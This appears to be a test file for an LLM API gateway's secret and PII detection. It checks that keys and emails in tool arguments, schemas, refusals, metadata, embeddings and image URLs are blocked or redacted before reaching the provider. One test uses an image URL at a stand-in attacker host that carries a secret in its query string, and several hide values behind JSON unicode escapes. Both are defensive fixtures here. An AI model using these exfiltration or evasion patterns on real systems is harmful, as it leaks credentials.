import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import t from 'tap';
import { serviceOnMockUpstream } from '../helpers/service.js';

/**
 * Input detection covers every forwarded text that can carry data, not only message content:
 * tool-call arguments (and legacy function_call), refusals, tool descriptions and schemas, the
 * end-user id and other free-text request fields (docs/policy.md, "What is scanned").
 */
const SECRET = 'AKIAIOSFODNN7EXAMPLQ';
const EMAIL = 'jane.doe@example.com';

t.test('input detection beyond message content', async (t) => {
  const { svc, upstream } = await serviceOnMockUpstream(t);
  const blockSecrets = { 'x-service-flags': 'secrets=block' };
  const openai = new OpenAI({ apiKey: svc.agentKey, baseURL: `${svc.url}/v1`, maxRetries: 0 });
  const strictOpenai = new OpenAI({
    apiKey: svc.agentKey,
    baseURL: `${svc.url}/v1`,
    maxRetries: 0,
    defaultHeaders: blockSecrets,
  });
  const anthropic = new Anthropic({ apiKey: svc.agentKey, baseURL: svc.url, maxRetries: 0 });
  const strictAnthropic = new Anthropic({
    apiKey: svc.agentKey,
    baseURL: svc.url,
    maxRetries: 0,
    defaultHeaders: blockSecrets,
  });
  const lastRaw = (): string => upstream.requests.at(-1)?.raw ?? '';

  const toolHistory = (args: string): OpenAI.Chat.ChatCompletionMessageParam[] => [
    { role: 'user', content: 'store my key' },
    {
      role: 'assistant',
      content: null,
      tool_calls: [{ id: 'c1', type: 'function', function: { name: 'store', arguments: args } }],
    },
    { role: 'tool', tool_call_id: 'c1', content: 'stored' },
    { role: 'user', content: 'thanks' },
  ];
  const toolUseHistory = (name: string, input: Record<string, unknown>): Anthropic.MessageParam[] => [
    { role: 'user', content: `use ${name}` },
    { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name, input }] },
    { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: 'done' }] },
  ];
  const tool = (
    description: string,
    parameters?: Record<string, unknown>,
  ): OpenAI.Chat.ChatCompletionTool => ({
    type: 'function',
    function: { name: 'store', description, parameters: parameters ?? { type: 'object', properties: {} } },
  });

  t.test('secrets=block: a secret anywhere in the request is blocked before the provider', async (t) => {
    const cases: [string, OpenAI.Chat.ChatCompletionCreateParamsNonStreaming][] = [
      [
        'tool_calls[].function.arguments',
        { model: 'gpt-4o', messages: toolHistory(JSON.stringify({ key: SECRET })) },
      ],
      [
        'legacy function_call.arguments',
        {
          model: 'gpt-4o',
          messages: [
            { role: 'user', content: 'store my key' },
            {
              role: 'assistant',
              content: null,
              function_call: { name: 'store', arguments: JSON.stringify({ key: SECRET }) },
            },
            { role: 'function', name: 'store', content: 'stored' },
          ],
        },
      ],
      [
        'tools[].function.description',
        { model: 'gpt-4o', messages: [{ role: 'user', content: 'hi' }], tools: [tool(`use key ${SECRET}`)] },
      ],
      [
        'tools[].function.parameters',
        {
          model: 'gpt-4o',
          messages: [{ role: 'user', content: 'hi' }],
          tools: [
            tool('store a key', {
              type: 'object',
              properties: { key: { type: 'string', description: `default ${SECRET}` } },
            }),
          ],
        },
      ],
      [
        'prediction.content',
        {
          model: 'gpt-4o',
          messages: [{ role: 'user', content: 'hi' }],
          prediction: { type: 'content', content: `key = ${SECRET}` },
        },
      ],
      [
        'an assistant refusal',
        {
          model: 'gpt-4o',
          messages: [
            { role: 'user', content: 'hi' },
            { role: 'assistant', content: [{ type: 'refusal', refusal: `no, ${SECRET}` }] },
            { role: 'user', content: 'hi' },
          ],
        },
      ],
      [
        'a claude model: tool_calls[].function.arguments',
        { model: 'claude-test', messages: toolHistory(JSON.stringify({ key: SECRET })) },
      ],
      // JSON escapes spell the same value (an Anthropic upstream even receives it decoded).
      [
        'arguments hiding the secret behind JSON escapes',
        { model: 'gpt-4o', messages: toolHistory(`{"key":"\\u0041${SECRET.slice(1)}"}`) },
      ],
      [
        'a claude model: arguments hiding the secret behind JSON escapes',
        {
          model: 'claude-test',
          messages: toolHistory(`{"key":"${SECRET.slice(0, 4)}\\u0049${SECRET.slice(5)}"}`),
        },
      ],
    ];
    // Whatever else a message, part, tool call or tool carries travels with the caller's bytes.
    const hi = [{ role: 'user', content: 'hi' }];
    const call = (extra: Record<string, unknown>, fn: Record<string, unknown> = {}) => [
      { role: 'user', content: 'hi' },
      {
        role: 'assistant',
        content: null,
        tool_calls: [
          { id: 'c1', type: 'function', function: { name: 'f', arguments: '{}', ...fn }, ...extra },
        ],
      },
      { role: 'tool', tool_call_id: 'c1', content: 'ok' },
    ];
    const loose: [string, Record<string, unknown>][] = [
      ['messages[].name', { messages: [{ role: 'user', content: 'hi', name: SECRET }] }],
      ['an unknown message member', { messages: [{ role: 'user', content: 'hi', note: { k: SECRET } }] }],
      [
        'a content part member',
        { messages: [{ role: 'user', content: [{ type: 'text', text: 'hi', x: SECRET }] }] },
      ],
      [
        'an image_url member',
        {
          messages: [
            {
              role: 'user',
              content: [{ type: 'image_url', image_url: { url: 'https://example.com/a.png', x: SECRET } }],
            },
          ],
        },
      ],
      ['a tool_call member', { messages: call({ x: SECRET }) }],
      ['a tool_call function member', { messages: call({}, { x: SECRET }) }],
      [
        'a tool_call_id',
        { messages: [...call({}).slice(0, 2), { role: 'tool', tool_call_id: SECRET, content: 'ok' }] },
      ],
      ['a tool member', { messages: hi, tools: [{ type: 'function', x: SECRET, function: { name: 'f' } }] }],
      [
        'a function member',
        { messages: hi, tools: [{ type: 'function', function: { name: 'f', x: SECRET } }] },
      ],
      [
        'a description that is not a string',
        { messages: hi, tools: [{ type: 'function', function: { name: 'f', description: { d: SECRET } } }] },
      ],
      [
        'a custom tool carrying function.description',
        {
          messages: hi,
          tools: [{ type: 'custom', custom: { name: 'f' }, function: { name: 'f', description: SECRET } }],
        },
      ],
      [
        'a custom tool member',
        { messages: hi, tools: [{ type: 'custom', custom: { name: 'f', x: SECRET } }] },
      ],
      [
        'a grammar definition that is not a string',
        {
          messages: hi,
          tools: [
            {
              type: 'custom',
              custom: {
                name: 'f',
                format: { type: 'text', grammar: { syntax: 'regex', definition: [SECRET] } },
              },
            },
          ],
        },
      ],
      [
        'a custom call carrying function.arguments',
        {
          messages: [
            { role: 'user', content: 'hi' },
            {
              role: 'assistant',
              content: null,
              tool_calls: [
                {
                  id: 'c1',
                  type: 'custom',
                  custom: { name: 'f', input: 'x' },
                  function: { name: 'f', arguments: SECRET },
                },
              ],
            },
            { role: 'tool', tool_call_id: 'c1', content: 'ok' },
          ],
        },
      ],
      [
        'a tool_choice member',
        { messages: hi, tool_choice: { type: 'function', function: { name: 'f', x: SECRET } } },
      ],
      ['an enum-like field', { messages: hi, service_tier: SECRET }],
      ['an object key', { messages: hi, metadata: { [SECRET]: 'v' } }],
    ];
    for (const [name, body] of loose) cases.push([name, { model: 'gpt-4o', ...body } as any]);
    for (const [name, body] of cases) {
      upstream.requests.length = 0;
      const res = await strictOpenai.chat.completions.create(body);
      t.equal((res as any).service.blocked, true, `${name}: blocked`);
      t.equal((res as any).service.rule_id, 'detector:secrets', `${name}: by the secrets detector`);
      t.equal(upstream.requests.length, 0, `${name}: the provider was not called`);
    }
    // Anthropic front end: tool_use.input (it becomes OpenAI arguments) and a tool description.
    for (const model of ['gpt-4o', 'claude-test']) {
      upstream.requests.length = 0;
      const msg = await strictAnthropic.messages.create({
        model,
        max_tokens: 10,
        messages: toolUseHistory('store', { key: SECRET }),
      });
      t.equal((msg as any).service.blocked, true, `/v1/messages tool_use.input (${model}): blocked`);
      t.equal(upstream.requests.length, 0, `/v1/messages tool_use.input (${model}): not forwarded`);
      const described = await strictAnthropic.messages.create({
        model,
        max_tokens: 10,
        messages: [{ role: 'user', content: 'hi' }],
        tools: [{ name: 'store', description: `use ${SECRET}`, input_schema: { type: 'object' } }],
      });
      t.equal((described as any).service.blocked, true, `/v1/messages tools[].description (${model})`);
      t.equal(upstream.requests.length, 0);
    }
  });

  t.test('default policy: PII in mappable fields is redacted in place', async (t) => {
    upstream.requests.length = 0;
    const res = await openai.chat.completions.create({
      model: 'gpt-4o',
      messages: toolHistory(JSON.stringify({ to: EMAIL })),
      tools: [tool(`mail ${EMAIL}`)],
      user: EMAIL,
    });
    t.equal((res as any).service.blocked, false);
    const raw = lastRaw();
    t.notMatch(raw, EMAIL, 'the provider never saw the address (the raw bytes were not forwarded)');
    const body = upstream.requests.at(-1)?.body as any;
    t.equal(body.messages[1].tool_calls[0].function.arguments, '{"to":"[EMAIL]"}');
    t.equal(body.tools[0].function.description, 'mail [EMAIL]');
    t.equal(body.user, '[EMAIL]');

    // A claude model and the Anthropic front end: tool_use.input is redacted too.
    for (const model of ['claude-test', 'gpt-4o']) {
      upstream.requests.length = 0;
      const msg = await anthropic.messages.create({
        model,
        max_tokens: 10,
        messages: toolUseHistory('mail', { to: EMAIL }),
      });
      t.equal((msg as any).service.blocked, false);
      t.equal(upstream.requests.length, 1, `${model}: forwarded`);
      t.notMatch(lastRaw(), EMAIL, `${model}: the tool input was redacted`);
      t.match(lastRaw(), '[EMAIL]');
    }
  });

  t.test('default policy: PII where it cannot be redacted in place refuses the call', async (t) => {
    upstream.requests.length = 0;
    const res = await openai.chat.completions.create({
      model: 'gpt-4o',
      messages: [{ role: 'user', content: 'hi' }],
      tools: [
        tool('mail someone', {
          type: 'object',
          properties: { to: { type: 'string', description: `for example ${EMAIL}` } },
        }),
      ],
    });
    t.equal((res as any).service.blocked, true);
    t.equal((res as any).service.rule_id, 'detector:pii');
    t.match((res as any).service.reason, /tools\[0\]\.function\.parameters/);
    t.equal(upstream.requests.length, 0, 'the provider was not called');

    // Escaped JSON cannot be redacted in the text the caller sent: refused as well.
    upstream.requests.length = 0;
    const escaped = await openai.chat.completions.create({
      model: 'gpt-4o',
      messages: toolHistory(`{"to":"\\u006a${EMAIL.slice(1)}"}`),
    });
    t.equal((escaped as any).service.blocked, true, 'escaped PII in arguments');
    t.match((escaped as any).service.reason, /messages\[1\]\.tool_calls\[0\]\.function\.arguments/);
    t.equal(upstream.requests.length, 0, 'the provider was not called');
  });

  t.test('embeddings: user is redacted in place, any other member is scanned', async (t) => {
    upstream.requests.length = 0;
    const res = (await openai.embeddings.create({
      model: 'gpt-embed',
      input: 'hello',
      user: EMAIL,
      encoding_format: 'float',
    })) as any;
    t.equal(res.service.blocked, false);
    t.equal((upstream.requests.at(-1)?.body as any)?.user, '[EMAIL]', 'the provider never saw the address');
    t.notMatch(lastRaw(), EMAIL);
    for (const [name, extra] of [
      ['user', { user: SECRET }],
      ['a member govgate does not know', { note: { k: SECRET } }],
    ] as const) {
      upstream.requests.length = 0;
      const blocked = (await strictOpenai.embeddings.create({
        model: 'gpt-embed',
        input: 'hello',
        ...extra,
      } as any)) as any;
      t.equal(blocked.service.blocked, true, `${name}: blocked`);
      t.equal(blocked.service.rule_id, 'detector:secrets', name);
      t.equal(upstream.requests.length, 0, `${name}: the provider was not called`);
    }
    // Under the default policy a secret cannot be redacted out of a member it does not rewrite.
    upstream.requests.length = 0;
    const refused = (await openai.embeddings.create({
      model: 'gpt-embed',
      input: 'hello',
      note: SECRET,
    } as any)) as any;
    t.equal(refused.service.blocked, true);
    t.match(refused.service.reason, /note, which cannot be redacted in place/);
    t.equal(upstream.requests.length, 0);
  });

  t.test('a field nested too deeply to inspect is refused, not forwarded', async (t) => {
    upstream.requests.length = 0;
    let deep: unknown = SECRET;
    for (let i = 0; i < 100; i++) deep = [deep];
    const res = await fetch(`${svc.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${svc.agentKey}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'hi' }], metadata: deep }),
    });
    const body = (await res.json()) as { error: { code: string; param: string } };
    t.equal(res.status, 400);
    t.equal(body.error.code, 'invalid_request');
    t.equal(body.error.param, 'metadata');
    t.equal(upstream.requests.length, 0);
  });

  t.test('an image URL the provider would fetch is scanned: a key in it refuses the call', async (t) => {
    upstream.requests.length = 0;
    const image = (url: string): OpenAI.Chat.ChatCompletionMessageParam[] => [
      {
        role: 'user',
        content: [
          { type: 'text', text: 'describe' },
          { type: 'image_url', image_url: { url } },
        ],
      },
    ];
    const res = await openai.chat.completions.create({
      model: 'gpt-test',
      messages: image(`https://attacker.example/p.png?k=${SECRET}`),
    });

    const service = (res as unknown as { service: { blocked: boolean; reason: string } }).service;
    t.equal(service.blocked, true, 'refused: a URL cannot be redacted and stay the same resource');
    t.match(service.reason, /image_url\.url/);
    t.equal(upstream.requests.length, 0, 'the provider was not called');
    const ok = await openai.chat.completions.create({
      model: 'gpt-test',
      messages: image('https://images.example/cat.png'),
    });
    t.equal((ok as unknown as { service: { blocked: boolean } }).service.blocked, false);
    t.match(lastRaw(), /images\.example\/cat\.png/, 'an ordinary URL is forwarded');
    upstream.requests.length = 0;
  });

  t.test('a request without findings is still forwarded byte for byte', async (t) => {
    upstream.requests.length = 0;
    const body = {
      model: 'gpt-4o',
      temperature: 0.2,
      messages: toolHistory('{"city":"Paris"}'),
      tools: [tool('look up the weather')],
    };
    await openai.chat.completions.create(body);
    t.equal(lastRaw(), JSON.stringify(body));
  });

  t.test(
    'embeddings: token-id inputs cannot be inspected, so they are refused while pii or secrets act',
    async (t) => {
      const embed = (input: unknown, headers: Record<string, string> = {}) =>
        svc.call('/v1/embeddings', {
          token: svc.agentKey,
          headers,
          body: { model: 'text-embedding-3-small', input },
        });
      for (const [input, headers] of [
        [[[101, 202, 303]], {}],
        [[101, 202, 303], blockSecrets],
      ] as const) {
        upstream.requests.length = 0;
        const res = await embed(input, headers);
        t.equal(res.status, 200);
        t.equal(res.body.service.blocked, true, `${JSON.stringify(input)}: blocked`);
        t.match(res.body.service.reason, /token ids cannot be inspected/);
        t.equal(upstream.requests.length, 0, 'the provider was not called');
      }
      // Strings are still scanned as before.
      upstream.requests.length = 0;
      const text = await embed(['plain text']);
      t.equal(text.body.service.blocked, false);
      t.equal(upstream.requests.length, 1);

      // With both detectors only flagging, nothing would be blocked or redacted: tokens pass.
      const policy = await svc.call('/api/v2/policies', { token: svc.pat, body: { name: 'flag-only' } });
      const id = policy.body.id as string;
      const draft = await svc.call(`/api/v2/policies/${id}/versions`, {
        token: svc.pat,
        body: {
          rules: {
            mode: 'enforce',
            detectors: { pii: { action: 'flag' }, secrets: { action: 'flag' } },
            rules: [],
          },
        },
      });
      t.equal(draft.status, 201);
      await svc.call(`/api/v2/policies/${id}/versions/${draft.body.version_no}/publish`, {
        token: svc.pat,
        method: 'POST',
      });
      const me = await svc.call('/api/me', { token: svc.pat });
      await svc.call(`/api/v2/policies/${id}/assignments`, {
        token: svc.pat,
        body: { scope_type: 'org', scope_id: me.body.org_id },
      });
      upstream.requests.length = 0;
      const tokens = await embed([[101, 202, 303]]);
      t.equal(tokens.body.service.blocked, false, JSON.stringify(tokens.body.service));
      t.equal(upstream.requests.length, 1, 'forwarded');
    },
  );
});
